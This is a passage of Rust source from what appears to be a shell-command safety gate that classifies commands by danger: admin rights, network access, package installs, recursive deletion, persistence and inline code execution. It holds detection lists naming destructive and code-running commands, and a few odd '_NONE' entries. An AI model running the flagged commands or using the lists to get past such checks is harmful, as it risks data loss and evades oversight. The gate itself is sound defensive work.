    let lead = args.get(..lead).unwrap_or_default();
    match n {
        "sudo" | "doas" | "pkexec" | "run0" => {
            a.flag(
                Danger::Admin,
                format!("{} runs the command as administrator", q(n)),
            );
        }
        "xargs" => {
            let inner = next_operand(args, vals)
                .and_then(|j| args.get(j))
                .map(|p| prog_name(p));
            if inner.is_some_and(|p| !TEXT_ONLY.contains(&p.as_str())) {
                a.flag(
                    Danger::Opaque,
                    "`xargs` gives arguments from its input to a program that can change files",
                );
            }
        }
        "exec" => a.flag(Danger::Opaque, "`exec` replaces the shell"),
        "setsid" => a.flag(
            Danger::Opaque,
            "`setsid` starts the command in a new session, outside the tool's process group",
        ),
        "unshare" => a.flag(
            Danger::Opaque,
            "`unshare` runs the command in new namespaces",
        ),
        "ssh-agent" => a.flag(
            Danger::Opaque,
            "`ssh-agent` runs the command with an agent that can hold keys",
        ),
        "taskset" | "chrt"
            if lead
                .iter()
                .any(|x| short_has(x, "p") || long_is(x, "--pid")) =>
        {
            return None;
        }
        "command" if lead.iter().any(|x| short_has(x, "vV")) => return None,
        "ionice" if has(lead, &["-p", "--pid", "-P", "--pgid", "-u", "--uid"]) => return None,
        _ => {}
    }
    if n == "env" {
        return env(args, a);
    }
    let mut j = next_operand(args, vals)?;
    if matches!(n, "timeout" | "setarch" | "chrt" | "taskset") {
        j += 1; // the duration, architecture, priority or CPU mask
    }
    Some(j)
}

/// `env [NAME=VALUE]… CMD`: only safe names and no options keep it transparent; bare `env`
/// prints the environment, which holds secrets.
fn env(args: &[String], a: &mut Acc) -> Option<usize> {
    let j = args
        .iter()
        .position(|x| !x.contains('=') || x.starts_with('-'));
    let Some(j) = j else {
        a.flag(
            Danger::Opaque,
            "`env` prints the environment, which can hold secrets",
        );
        return None;
    };
    let assigns = args.get(..j).unwrap_or_default();
    let unsafe_names: Vec<&str> = assigns
        .iter()
        .filter_map(|x| x.split_once('=').map(|(k, _)| k))
        .filter(|k| !crate::shell::safe_env(k))
        .collect();
    if args.get(j).is_some_and(|x| x.starts_with('-')) || !unsafe_names.is_empty() {
        a.flag(
            Danger::Opaque,
            "`env` can change the environment and `PATH`, so what runs",
        );
    }
    if args.get(j).is_some_and(|x| x.starts_with('-')) {
        return next_operand(
            args,
            WRAPPERS
                .iter()
                .find(|(w, _)| *w == "env")
                .map_or(&[], |(_, v)| v),
        )
        .map(|k| k + args.iter().skip(k).take_while(|x| x.contains('=')).count());
    }
    Some(j)
}

/// Checks that apply to every program: URLs, startup files, directory flags, writes outside.
fn generic(n: &str, args: &[String], a: &mut Acc) {
    if TEXT_ONLY.contains(&n) {
        return;
    }
    let sed_i = n == "sed"
        && args
            .iter()
            .any(|x| x.starts_with("--in-place") || short_has(x, "i"));
    let writer = WRITERS.contains(&n) || sed_i;
    let who = q(n);
    for (k, x) in args.iter().enumerate() {
        let url = x.contains("://") && URLS.iter().any(|u| x.to_ascii_lowercase().contains(u));
        if url && n != "git" {
            a.flag(Danger::Network, format!("{who} is given the URL {}", q(x)));
        }
        let mut cands = vec![x.as_str()];
        cands.extend(x.split_once('=').map(|(_, v)| v));
        if x.starts_with('-') && !x.starts_with("--") {
            cands.extend(x.char_indices().nth(2).and_then(|(p, _)| x.get(p..))); // `-t/etc`
        }
        for c in cands {
            if writer {
                write_checks(a, &who, c);
            } else if boot(c) {
                a.flag(
                    Danger::BootAutostart,
                    format!("{who} touches the startup file {}", q(c)),
                );
            }
        }
        let val = if takes_value(x, DIR_OPTS) {
            args.get(k + 1).map(String::as_str)
        } else if x.starts_with("--") {
            x.split_once('=')
                .filter(|_| opt_in(x, DIR_OPTS))
                .map(|(_, v)| v)
        } else {
            ["-C", "-o"].iter().find_map(|o| {
                x.strip_prefix(o)
                    .filter(|r| !r.is_empty() && !r.starts_with('='))
            })
        };
        if let Some(v) = val {
            a.outside_path(&who, "works in", v);
        }
    }
}

#[rustfmt::skip]
fn terminal(n: &str, args: &[String], a: &mut Acc, depth: u8) {
    use Danger::*;
    generic(n, args, a);
    let f = fam(n);
    let any = |p: &dyn Fn(&str) -> bool| args.iter().any(|x| p(x));
    let opt = |l: &[&str]| any(&|x| opt_in(x, l));
    // Reasons are written only for what is found (most commands find nothing).
    macro_rules! hit { ($d:expr, $cond:expr, $why:expr) => { if $cond { a.flag($d, format!("{} {}", q(n), $why)); } }; }
    for v in pm_verbs(args) {
        let is = |t: &[(&str, &[&str])]| t.iter().any(|(p, vs)| (*p == n || *p == f) && vs.contains(&v));
        let nv = || q(&format!("{n} {v}"));
        if is(PKG) { a.flag(PackageInstall, format!("{} installs or fetches packages", nv())); }
        if is(NET_VERBS) { a.flag(Network, format!("{} reaches the network", nv())); }
    }
    let init_pkg = matches!(f, "npm" | "pnpm" | "yarn" | "bun") && {
        let ops: Vec<&str> = args.iter().filter(|x| !x.starts_with('-')).map(String::as_str).collect();
        ops.first().is_some_and(|v| matches!(*v, "init" | "create" | "innit")) && ops.len() > 1
    };
    hit!(PackageInstall, init_pkg, "init <package> fetches and runs a package from the registry");
    hit!(Admin, n == "install" && args.windows(2).any(|w| opt_in(&w[0], &["-m", "--mode"]) && setuid(w[0].strip_prefix("-m").filter(|m| !m.is_empty()).or(w[0].split_once('=').map(|(_, m)| m)).unwrap_or(&w[1]))), "sets the setuid/setgid bit");
    hit!(Admin, n == "install" && args.windows(2).any(|w| opt_in(&w[0], &["-o", "--owner", "-g", "--group"]) && [w[0].as_str(), w[1].as_str()].iter().any(|v| v.ends_with("root") || *v == "0")), "gives files to root");
    hit!(Opaque, matches!(n, "source" | ".") && first_pos(args, &[]).is_none_or(|t| { let o = a.at(t); o.is_none_or(|o| outside(&o)) }), "runs a script from outside the working directory in this shell");
    hit!(Opaque, n == "tar" && args.first().is_some_and(|x| !x.starts_with('-') && x.chars().all(|c| c.is_ascii_alphabetic()) && x.contains(['I', 'F'])), "runs a program from its options");
    hit!(Opaque, n == "git" && git_unknown_sub(args), "may run a git alias, which can run any command");
    hit!(Opaque, f == "sqlite" && sqlite_runs(args, &a.stdin), "can run shell commands (`.shell`), write files (`.output`, `writefile()`) or load code");
    hit!(Network, NET.contains(&n) || NET.contains(&f), "reaches the network");
    hit!(Admin, ADMIN.contains(&n), "needs or grants administrator rights");
    hit!(Opaque, OPAQUE_PROGS.contains(&n), "runs other commands or changes how the shell runs them");
    hit!(Opaque, INLINE.iter().any(|(p, l)| p.contains(&f) && opt(l)), "runs inline code or another program from its options");
    hit!(Opaque, INLINE_SHORT.iter().any(|(p, l)| *p == f && any(&|x| short_has(x, l))), "runs inline code from its options");
    hit!(Opaque, matches!(f, "vi" | "vim" | "nvim" | "view" | "ex") && any(&|x| x.starts_with('+')), "runs editor commands from its arguments");
    hit!(Opaque, matches!(f, "awk" | "gawk" | "mawk" | "nawk") && any(&|x| ["system", "|", ">", "getline"].iter().any(|p| x.contains(p))), "program can run commands or write files");
    hit!(Opaque, f == "sed" && sed_runs(args), "script can run commands (`e`) or write files (`w`)");
    hit!(Opaque, matches!(f, "ssh" | "scp" | "sftp") && any(&|x| x.to_ascii_lowercase().contains("command")), "option runs a local command");
    hit!(BootAutostart, matches!(n, "at" | "batch" | "update-rc.d" | "chkconfig" | "rc-update"), "schedules or registers commands to run later");
    hit!(BootAutostart, n == "crontab" && !has(args, &["-l"]), "schedules commands with cron");
    hit!(BootAutostart, n == "launchctl" && !matches!(args.first().map(String::as_str), Some("list" | "print" | "version" | "help")), "changes what launchd starts");
    hit!(RecursiveDelete, matches!(n, "shred" | "wipefs") || n.starts_with("mkfs"), "destroys data irrecoverably");
    hit!(Admin, n == "wipefs" || n.starts_with("mkfs"), "needs administrator rights");
    hit!(Admin, n == "chmod" && any(&setuid), "sets the setuid/setgid bit");
    hit!(Admin, matches!(n, "chown" | "chgrp") && first_pos(args, &[]).is_some_and(|o| o.split([':', '.']).any(|p| p == "root" || p == "0")), "gives files to root");
    hit!(OutsideCwd, n == "popd", "leaves the working directory");
    if matches!(n, "cd" | "pushd" | "chdir") { cd(args, a); }
    hit!(PackageInstall, matches!(n, "uvx" | "emerge" | "cargo-binstall"), "fetches and runs or installs packages");
    if matches!(n, "npx" | "bunx" | "pnpx") { npx(n, args, a); }
    hit!(PackageInstall, n == "dpkg" && any(&|x| short_has(x, "i") || x == "--install" || x == "--unpack"), "installs packages");
    hit!(PackageInstall, n == "rpm" && any(&|x| ["-i", "-U", "-F", "--install", "--upgrade", "--freshen", "--reinstall"].iter().any(|o| x.starts_with(o))), "installs packages");
    hit!(PackageInstall, matches!(n, "pacman" | "yay" | "paru") && ((n != "pacman" && args.is_empty()) || any(&|x| x.starts_with("-S") || x.starts_with("-U") || x == "--sync" || x == "--upgrade")), "installs packages");
    hit!(PackageInstall, n == "nix-env" && any(&|x| x.starts_with("-i") || x.starts_with("-u") || x == "--install" || x == "--upgrade"), "installs packages");
    hit!(PackageInstall, f == "yarn" && first_pos(args, PM_VALS).is_none() && !has(args, &["-v", "--version", "-h", "--help"]), "without a command installs packages");
    let words: Vec<&str> = args.iter().filter(|x| !x.starts_with('-')).take(2).map(String::as_str).collect();
    hit!(PackageInstall, n == "uv" && matches!(words.as_slice(), ["pip", "install" | "sync"] | ["tool", "install" | "run" | "upgrade"] | ["python", "install"] | ["add" | "sync", ..]), "installs packages");
    hit!(Network, f == "php" && any(&|x| short_has(x, "S")), "serves on the network");
    hit!(OutsideCwd, n == "tar" && any(&|x| x == "-P" || x == "--absolute-names"), "keeps absolute paths");
    hit!(Network, n == "rsync" && any(&|x| !x.starts_with('-') && (x.contains("::") || x.to_ascii_lowercase().starts_with("rsync://") || x.split_once(':').is_some_and(|(h, _)| !h.is_empty() && !h.contains('/')))), "to a remote host reaches the network");
    hit!(RecursiveDelete, n == "rsync" && any(&|x| x.starts_with("--delete") || x == "--remove-source-files"), "deletes files recursively");
    match n {
        "rm" => rm(args, a),
        "find" => find_cmd(args, a, depth),
        "git" => git(args, a),
        "systemctl" => systemctl(args, a),
        "eval" => inline_shell(a, &args.join(" "), depth),
        "su" if any(&|x| x == "-c" || x.starts_with("--command")) => {
            a.flag(Opaque, "`su -c` runs inline shell code");
            let code = args.iter().position(|x| x == "-c").and_then(|k| args.get(k + 1));
            if let Some(code) = code { inline_shell(a, code, depth); }
        }
        _ if SHELLS.contains(&f) => shell(n, args, a, depth),
        _ if matches!(f, "python" | "pypy") => python(args, a, depth),
        _ => {}
    }
}

/// Classify shell code given as a string (`sh -c CODE`, `eval`, a here-document fed to a shell)
/// one level down; its `cd` does not move the outer command.
fn inline_shell(a: &mut Acc, code: &str, depth: u8) {
    if depth >= MAX_DEPTH {
        a.flag(Danger::Opaque, "it nests shell code too deeply to analyse");
        return;
    }
    let (cwd, cur, stdin) = (a.cwd.clone(), a.cur, a.stdin.clone());
    a.controls(&code.replace('\n', " "));
    a.mentions(code);
    crate::shell::analyze(code, a, depth + 1);
    (a.cwd, a.cur, a.stdin) = (cwd, cur, stdin);
}

/// `npx NAME` runs the project's own `node_modules/.bin/NAME` when it is installed and fetches a
/// package from the registry otherwise: the finding holds unless the tool finds the local binary.
fn npx(n: &str, args: &[String], a: &mut Acc) {
    let why = format!("{} fetches and runs or installs packages", q(n));
    let fetches = args
        .iter()
        .any(|x| opt_in(x, &["-p", "--package", "--call", "-c"]));
    let name = first_pos(args, &[])
        .filter(|p| !fetches && !p.contains(['@', '/', '\\', ':']) && !p.starts_with('.'));
    match name.and_then(|p| a.at(&format!("node_modules/.bin/{p}"))) {
        Some(bin) => {
            let cur = a.cur;
            a.findings.push(Finding {
                danger: Danger::PackageInstall,
                reason: why,
                path: None,
                command: cur,
                local_bin: Some(bin),
            });
        }
        None => a.flag(Danger::PackageInstall, why),
    }
}

fn rm(args: &[String], a: &mut Acc) {
    let end = args.iter().position(|x| x == "--").unwrap_or(args.len());
    if args
        .iter()
        .take(end)
        .any(|x| long_is(x, "--recursive") || short_has(x, "rR"))
    {
        a.flag(
            Danger::RecursiveDelete,
            "`rm -r` deletes directories recursively",
        );
    }
    for (k, x) in args.iter().enumerate() {
        let tilde = x.starts_with('~');
        let comps = x.split('/').filter(|c| !c.is_empty() && *c != ".").count();
        let (comps, glob) = (
            comps.saturating_sub(usize::from(tilde)),
            x.contains(['*', '?', '[']),
        );
        let operand = k > end || !x.starts_with('-');
        if operand && (tilde || x.starts_with('/')) && (comps == 0 || (comps == 1 && glob)) {
            let why = format!("`rm` of {} deletes everything under the root or home", q(x));
            a.flag(Danger::RecursiveDelete, why);
        }
    }
}

fn find_cmd(args: &[String], a: &mut Acc, depth: u8) {
    let mut k = 0;
    while let Some(x) = args.get(k) {
        match x.as_str() {
            "-delete" => a.flag(
                Danger::RecursiveDelete,
                "`find -delete` deletes files recursively",
            ),
            "-fprint" | "-fprint0" | "-fprintf" | "-fls" => {
                a.flag(Danger::Opaque, format!("`find {x}` writes to a file"));
            }
            "-exec" | "-execdir" | "-ok" | "-okdir" => {
                a.flag(
                    Danger::Opaque,
                    format!("`find {x}` runs a command for every file"),
                );
                let rest = args.iter().skip(k + 1).position(|x| x == ";" || x == "+");
                let end = rest.map_or(args.len(), |p| k + 1 + p);
                if depth < MAX_DEPTH {
                    classify(args.get(k + 1..end).unwrap_or_default(), a, depth + 1);
                }
                k = end;
            }
            _ => {}
        }
        k += 1;
    }
}

#[rustfmt::skip]
fn systemctl(args: &[String], a: &mut Acc) {
    let vals = ["-H", "--host", "-M", "--machine", "-t", "--type", "-p", "--property", "-n", "--lines", "-o", "--output", "--state", "--root", "-s", "--signal"];
    let boot = ["enable", "reenable", "disable", "link", "preset", "preset-all", "set-default", "add-wants", "add-requires", "edit", "revert", "mask", "unmask"];
    let read = |v: &str| ["status", "show", "cat", "help", "list-", "is-", "get-default", "show-environment"].iter().any(|r| v == *r || (r.ends_with('-') && v.starts_with(r)));
    match first_pos(args, &vals) {
        None => {}
        Some(v) if read(v) => {}
        Some(v) if boot.contains(&v) => a.flag(Danger::BootAutostart, format!("{} changes what starts at boot or login", q(&format!("systemctl {v}")))),
        Some(_) if has(args, &["--user"]) => a.flag(Danger::Opaque, "`systemctl --user` controls user services"),
        Some(_) => a.flag(Danger::Admin, "`systemctl` controls system services"),
    }
}

fn shell(n: &str, args: &[String], a: &mut Acc, depth: u8) {
    let code_at = args
        .iter()
        .position(|x| short_has(x, "c") || x.starts_with("--command"));
    if let Some(k) = code_at {
        a.flag(
            Danger::Opaque,
            format!("{} runs inline shell code", q(&format!("{n} -c"))),
        );
        let attached = args.get(k).and_then(|x| x.strip_prefix("--command="));
        let code = attached.or(args.get(k + 1).map(String::as_str));
        if let Some(code) = code {
            inline_shell(a, code, depth);
        }
        return;
    }
    let script = first_pos(args, &["-o", "+o", "-O", "+O", "--rcfile", "--init-file"]);
    if args.iter().any(|x| short_has(x, "i")) {
        a.flag(
            Danger::Opaque,
            format!("{} runs an interactive shell", q(n)),
        );
    }
    if script.is_some() && !args.iter().any(|x| short_has(x, "s")) {
        return;
    }
    match a.stdin.clone() {
        crate::shell::Stdin::Text(Some(code)) => inline_shell(a, &code, depth),
        crate::shell::Stdin::Text(None) => a.flag(
            Danger::Opaque,
            format!(
                "{} runs a here-document with parts known only at run time",
                q(n)
            ),
        ),
        crate::shell::Stdin::Pipe => a.flag(
            Danger::Opaque,
            format!("{} runs commands it reads from a pipe", q(n)),
        ),
        _ => a.flag(
            Danger::Opaque,
            format!("{} reads commands from stdin or runs interactively", q(n)),
        ),
    }
}

/// Python modules `python -m` may run without asking: test runners, linters, formatters, the
/// standard library's harmless tools. Any other module asks (`timeit`, `pdb`, `code` run code from
/// their arguments; `pydoc -p`, `telnetlib`, `zipfile -e` open sockets or write anywhere).
#[rustfmt::skip]
const PY_MODULES: &[&str] = &["pytest", "unittest", "doctest", "mypy", "black", "ruff", "flake8", "pylint", "isort", "venv", "json.tool",
    "py_compile", "compileall", "coverage", "pyflakes", "pycodestyle", "pydocstyle", "bandit", "site", "sysconfig", "platform",
    "tabnanny", "tokenize", "ast", "dis", "calendar", "uuid", "pyright", "nox_NONE", "maturin", "django", "flask_NONE", "pytest_benchmark"];

fn python(args: &[String], a: &mut Acc, depth: u8) {
    if args
        .first()
        .is_some_and(|x| matches!(x.as_str(), "-V" | "--version" | "-VV" | "-h" | "--help"))
    {
        return;
    }
    let mut k = 0;
    while let Some(x) = args.get(k) {
        if x == "-" || short_has(x, "c") {
            a.flag(
                Danger::Opaque,
                "`python -c` runs inline code: it can do anything the user can",
            );
            return;
        }
        let module = if short_has(x, "m") {
            let cluster = x.get(1..).unwrap_or_default();
            let after = cluster.split_once('m').map(|(_, r)| r).unwrap_or_default();
            if after.is_empty() {
                k += 1;
                args.get(k).map(String::as_str)
            } else {
                Some(after)
            }
        } else {
            None
        };
        if short_has(x, "m") {
            let rest = args.get(k + 1..).unwrap_or_default();
            match module {
                Some(
                    "http.server" | "SimpleHTTPServer" | "smtpd" | "aiosmtpd" | "pydoc"
                    | "telnetlib" | "smtplib" | "ftplib" | "xmlrpc.server" | "webbrowser"
                    | "http.client" | "CGIHTTPServer",
                ) => {
                    a.flag(
                        Danger::Network,
                        format!(
                            "{} can serve on or reach the network",
                            q(&format!("python -m {}", module.unwrap_or_default()))
                        ),
                    );
                }
                Some(m @ ("pip" | "pipx" | "uv" | "ensurepip")) => terminal(m, rest, a, depth),
                Some(m) if PY_MODULES.contains(&m) => {}
                m => {
                    let m = m.unwrap_or("");
                    a.flag(
                        Danger::Opaque,
                        format!(
                            "{} runs a module whose behaviour the gate does not know",
                            q(&format!("python -m {m}"))
                        ),
                    );
                }
            }
            return;
        }
        if !x.starts_with('-') {
            return; // the script
        }
        k += if x == "-W" || x == "-X" { 2 } else { 1 };
    }
    let why = match a.stdin {
        crate::shell::Stdin::Text(_) | crate::shell::Stdin::Pipe => {
            "`python` runs the code it is given on its input: it can do anything the user can"
        }
        _ => "`python` without a script reads code from stdin",
    };
    a.flag(Danger::Opaque, why);
}

/// The operands that could be a package manager's verb: the first one, skipping values of known
/// options and `+toolchain`, and the next one too when an option of unknown arity came first.
fn pm_verbs(args: &[String]) -> Vec<&str> {
    let (mut out, mut unsure, mut k) = (Vec::new(), false, 0);
    while let Some(x) = args.get(k) {
        k += 1;
        if x == "--" || x.starts_with('+') {
            continue;
        }
        if x.starts_with('-') && x.len() > 1 {
            if takes_value(x, PM_VALS) {
                k += 1;
            } else if x.starts_with("--") && !x.contains('=') {
                unsure = true;
            }
            continue;
        }
        out.push(x.as_str());
        if !unsure || out.len() >= 2 {
            break;
        }
    }
    out
}

/// Git's own commands; anything else may be an alias from a config file, and `!` aliases run
/// shell commands.
#[rustfmt::skip]
const GIT_SUBS: &[&str] = &["add", "am", "annotate", "apply", "archive", "bisect", "blame", "branch", "bundle", "cat-file", "check-attr",
    "check-ignore", "check-mailmap", "check-ref-format", "checkout", "checkout-index", "cherry", "cherry-pick", "citool", "clean", "clone",
    "commit", "commit-graph", "commit-tree", "config", "count-objects", "describe", "diff", "diff-files", "diff-index", "diff-tree",
    "fetch", "for-each-ref", "format-patch", "fsck", "gc", "grep", "hash-object", "help", "init", "log", "ls-files", "ls-remote", "ls-tree",
    "maintenance", "merge", "merge-base", "merge-file", "merge-tree", "mv", "name-rev", "notes", "pull", "push", "range-diff", "read-tree",
    "rebase", "reflog", "remote", "repack", "replace", "restore", "rev-list", "rev-parse", "revert", "rm", "shortlog", "show", "show-branch",
    "show-ref", "sparse-checkout", "stage", "stash", "status", "submodule", "switch", "symbolic-ref", "tag", "update-index", "update-ref",
    "var", "verify-commit", "verify-tag", "version", "whatchanged", "worktree", "write-tree", "difftool", "mergetool", "filter-branch",
    "send-email", "request-pull", "daemon", "instaweb", "lfs", "svn", "p4", "credential", "hook", "fetch-pack", "send-pack", "upload-pack",
    "receive-pack", "upload-archive", "bugreport", "prune", "unpack-objects", "pack-objects", "index-pack", "verify-pack", "mktree", "mktag",
    "interpret-trailers", "column", "get-tar-commit-id", "stripspace", "patch-id", "imap-send", "fast-export", "fast-import", "rerere",
    "backfill", "replay", "reset", "gui", "init-db", "mailinfo", "mailsplit", "pack-refs", "prune-packed", "multi-pack-index", "diagnose", "cvsimport", "archimport", "quiltimport", "http-fetch", "http-push", "remote-ext", "remote-fd", "show-index", "filter-repo"];

fn git_unknown_sub(args: &[String]) -> bool {
    let mut k = 0;
    while let Some(x) = args.get(k) {
        if !x.starts_with('-') {
            return !GIT_SUBS.contains(&x.as_str());
        }
        k += if matches!(
            x.as_str(),
            "-C" | "-c"
                | "--git-dir"
                | "--work-tree"
                | "--namespace"
                | "--super-prefix"
                | "--attr-source"
                | "--config-env"
        ) {
            2
        } else {
            1
        };
    }
    false
}

/// Does `sqlite3` get SQL or dot-commands that run programs, write files or load code — or SQL
/// it reads from a pipe or file the gate cannot see?
fn sqlite_runs(args: &[String], stdin: &crate::shell::Stdin) -> bool {
    const BAD: &[&str] = &[
        ".sh",
        ".system",
        ".output",
        ".once",
        ".log",
        ".load",
        ".import",
        ".save",
        ".backup",
        ".clone",
        ".excel",
        ".open",
        ".read",
        ".restore",
        ".cd",
        ".archive",
        ".ar ",
        ".recover",
        ".dbconfig",
        ".iotrace",
        ".trace",
        ".testcase",
        "writefile",
        "edit(",
        "load_extension",
        "attach",
        "fts3_tokenizer",
        "vacuum into",
        "readfile",
    ];
    let bad = |t: &str| {
        let l = t.to_lowercase();
        BAD.iter().any(|b| l.contains(b))
    };
    let mut k = 0;
    let mut operands = 0;
    while let Some(x) = args.get(k) {
        k += 1;
        if x.starts_with('-') {
            let name = x.trim_start_matches('-');
            if matches!(
                name,
                "init" | "A" | "append" | "deserialize" | "zip" | "unsafe-testing" | "safe_NONE"
            ) || name.starts_with('A')
            {
                return true;
            }
            if name == "cmd" {
                if args.get(k).is_none_or(|c| bad(c)) {
                    return true;
                }
                k += 1;
            } else if matches!(
                name,
                "separator"
                    | "newline"
                    | "nullvalue"
                    | "escape"
                    | "maxsize"
                    | "vfs"
                    | "lookaside"
                    | "pagecache"
                    | "heap"
                    | "mmap"
                    | "pcachetrace_NONE"
            ) {
                k += 1;
            }
            continue;
        }
        operands += 1;
        if operands > 1 && bad(x) {
            return true;
        }
    }
    if operands > 1 {
        return false;
    }
    match stdin {
        crate::shell::Stdin::Text(Some(t)) => bad(t),
        _ => true,
    }
}

#[rustfmt::skip]
fn git(args: &[String], a: &mut Acc) {
    use Danger::*;
    let mut k = 0;
    while let Some(x) = args.get(k).filter(|x| x.starts_with('-')) {
        match x.as_str() { // global options; `-C`/`--git-dir`/`--work-tree` values are checked in `generic`
            "-C" | "--git-dir" | "--work-tree" | "--namespace" | "--super-prefix" | "--attr-source" => k += 1,
            "-p" | "-P" | "--paginate" | "--no-pager" | "--bare" | "--no-replace-objects" | "--literal-pathspecs" | "--glob-pathspecs"
            | "--noglob-pathspecs" | "--icase-pathspecs" | "--no-optional-locks" | "--no-lazy-fetch" | "--no-advice" | "--version"
            | "--help" | "-v" | "-h" => {}
            x if ["--git-dir=", "--work-tree=", "--namespace=", "-C"].iter().any(|p| x.starts_with(p)) => {}
            x => a.flag(Opaque, format!("{} can change git's configuration, pager or programs", q(&format!("git {x}")))),
        }
        k += 1;
    }
    let Some(sub) = args.get(k) else { return };
    let rest = args.get(k + 1..).unwrap_or_default();
    let gs = q(&format!("git {sub}"));
    let any = |p: &dyn Fn(&str) -> bool| rest.iter().any(|x| p(x));
    let exec = ["-c", "--config", "-u", "--upload-pack", "--receive-pack", "--exec", "--template", "foreach"];
    if any(&|x| opt_in(x, &["--upload-pack", "--receive-pack", "--exec", "--ext-diff", "--textconv", "--open-files-in-pager"]) || (sub == "grep" && (short_has(x, "O")))) {
        a.flag(Opaque, format!("{gs} can run another program from its options"));
    }
    let (d, hit, why) = match sub.as_str() {
        "clone" | "fetch" | "pull" | "push" | "ls-remote" | "send-email" | "svn" | "request-pull" | "daemon" | "instaweb" | "lfs" | "p4" | "submodule"
        | "fetch-pack" | "send-pack" | "upload-pack" | "receive-pack" | "upload-archive" | "http-fetch" | "http-push" | "remote-ext" | "remote-fd" | "imap-send" | "cvsimport" | "archimport" | "quiltimport" => {
            let runs = any(&|x| x.starts_with("ext::") || opt_in(x, &exec));
            if runs { a.flag(Opaque, format!("{gs} can run another program")); }
            (Network, true, "reaches the network")
        }
        "remote" => (Network, has(rest, &["update", "prune", "show", "set-head", "-f", "--fetch"]), "reaches the network"),
        "archive" => (Network, any(&|x| x.starts_with("--remote") || x.starts_with("--exec")), "reaches the network"),
        "config" => (Opaque, !has(rest, &["--get", "--get-all", "--get-regexp", "--get-urlmatch", "--list", "-l", "get", "list"]), "can set aliases, hooks or a pager that run commands"),
        "clean" => (RecursiveDelete, any(&|x| long_is(x, "--force") || short_has(x, "f")) && !any(&|x| x == "--dry-run" || short_has(x, "n")), "deletes untracked files recursively"),
        "rm" => (RecursiveDelete, any(&|x| short_has(x, "r")), "deletes recursively"),
        "bisect" => (Opaque, rest.first().is_some_and(|x| x == "run"), "runs a command"),
        "rebase" => (Opaque, any(&|x| short_has(x, "x") || long_is(x, "--exec")), "runs a command"),
        "filter-branch" | "filter-repo" | "difftool" | "mergetool" | "credential" | "hook" => (Opaque, true, "runs other programs"),
        _ => (Opaque, false, ""),
    };
    if hit { a.flag(d, format!("{gs} {why}")); }
    if matches!(sub.as_str(), "clone" | "init" | "worktree") {
        for x in rest.iter().filter(|x| !x.starts_with('-')) { a.outside_path(&gs, "writes to", x); }
    }
}

fn setuid(m: &str) -> bool {
    if !m.is_empty() && m.chars().all(|c| c.is_ascii_digit()) {
        let d: Vec<u32> = m.chars().filter_map(|c| c.to_digit(8)).collect();
        return d.len() >= 4 && d.get(d.len() - 4).is_some_and(|x| x & 6 != 0);
    }
    m.contains(['+', '='])
        && m.chars().all(|c| "ugoarwxXst+-=,".contains(c))
        && m.split(',')
            .any(|cl| cl.split(['+', '=']).skip(1).any(|p| p.contains('s')))
}

/// Does a sed script run a command (`e`, the `e` flag of `s`) or write a file (`w`, `W`, the `w`
/// flag) — or come from somewhere the gate cannot read (`-f FILE`)? Scripts are parsed command by
/// command; anything not understood counts as running.
fn sed_runs(args: &[String]) -> bool {
    let mut scripts: Vec<&str> = Vec::new();
    let mut k = 0;
    while let Some(x) = args.get(k) {
        k += 1;
        if x == "--" {
            break;
        }
        if x.starts_with("--") {
            if long_is(x, "--expression") {
                match x.split_once('=') {
                    Some((_, v)) => scripts.push(v),
                    None => {
                        scripts.extend(args.get(k).map(String::as_str));
                        k += 1;
                    }
                }
            } else if long_is(x, "--file") {
                return true;
            } else if long_is(x, "--line-length") && !x.contains('=') {
                k += 1;
            }
            continue;
        }
        if let Some(cluster) = x.strip_prefix('-').filter(|c| !c.is_empty()) {
            // In a cluster the first of `e`, `f`, `l` takes the rest (or the next argument).
            if let Some(p) = cluster.find(['e', 'f', 'l']) {
                let rest = cluster.get(p + 1..).unwrap_or_default();
                let value = if rest.is_empty() {
                    k += 1;
                    args.get(k - 1).map(String::as_str)
                } else {
                    Some(rest)
                };
                match cluster.as_bytes().get(p) {
                    Some(b'e') => scripts.extend(value),
                    Some(b'f') => return true,
                    _ => {}
                }
            }
        }
    }
    if scripts.is_empty() {
        scripts.extend(first_pos(args, &["-l", "--line-length"]));
    }
    scripts.iter().any(|s| sed_script_runs(s))
}

#[rustfmt::skip]
fn sed_script_runs(script: &str) -> bool {
    let cs: Vec<char> = script.chars().collect();
    let mut i = 0;
    // Skip a delimited part (`/re/`, or `\cREc`), honouring backslash escapes; returns the index after it.
    let delimited = |i: usize, d: char| -> Option<usize> {
        let mut j = i;
        while let Some(&c) = cs.get(j) {
            if c == '\\' { j += 2; continue; }
            if c == d { return Some(j + 1); }
            if c == '\n' { return None; }
            j += 1;
        }
        None
    };
    while i < cs.len() {
        // address: numbers, $, /re/, \cREc, with , ~ + ! and spaces and I/M flags after a regex
        loop {
            match cs.get(i) {
                Some(c) if c.is_ascii_digit() || " \t;,$!~+{}\n".contains(*c) => i += 1,
                Some('/') => match delimited(i + 1, '/') { Some(j) => { i = j; while matches!(cs.get(i), Some('I' | 'M')) { i += 1; } } None => return true },
                Some('\\') => match cs.get(i + 1) { Some(&d) => match delimited(i + 2, d) { Some(j) => { i = j; while matches!(cs.get(i), Some('I' | 'M')) { i += 1; } } None => return true }, None => return true },
                _ => break,
            }
        }
        let Some(&c) = cs.get(i) else { break };
        i += 1;
        let to_end = |i: usize| cs.iter().skip(i).position(|&c| c == '\n' || c == ';' || c == '}').map_or(cs.len(), |p| i + p);
        match c {
            'e' | 'w' | 'W' => return true,
            's' | 'y' => {
                let Some(&d) = cs.get(i) else { return true };
                if d == '\\' || d == '\n' { return true; }
                let Some(j) = delimited(i + 1, d).and_then(|j| delimited(j, d)) else { return true };
                i = j;
                if c == 's' {
                    let end = to_end(i);
                    let flags: String = cs.get(i..end).unwrap_or_default().iter().collect();
                    if flags.contains(['e', 'w', 'W']) || !flags.chars().all(|f| f.is_ascii_digit() || "gpiImMx ".contains(f)) { return true; }
                    i = end;
                }
            }
            'a' | 'i' | 'c' => i = cs.iter().skip(i).position(|&c| c == '\n').map_or(cs.len(), |p| i + p),
            '#' => i = cs.iter().skip(i).position(|&c| c == '\n').map_or(cs.len(), |p| i + p),
            ':' | 'b' | 't' | 'T' | 'r' | 'R' | 'q' | 'Q' | 'l' | 'L' => i = to_end(i),
            'p' | 'P' | 'd' | 'D' | 'n' | 'N' | 'g' | 'G' | 'h' | 'H' | 'x' | '=' | 'z' | 'F' => {}
            _ => return true,
        }
    }
    false
}

#[cfg(test)]
#[rustfmt::skip]
mod tests {
    use super::Danger::*;
    use super::*;

    fn argv(v: &[&str]) -> Vec<String> { v.iter().map(|s| s.to_string()).collect() }

    #[test]
    fn dangerous_commands_are_flagged() {
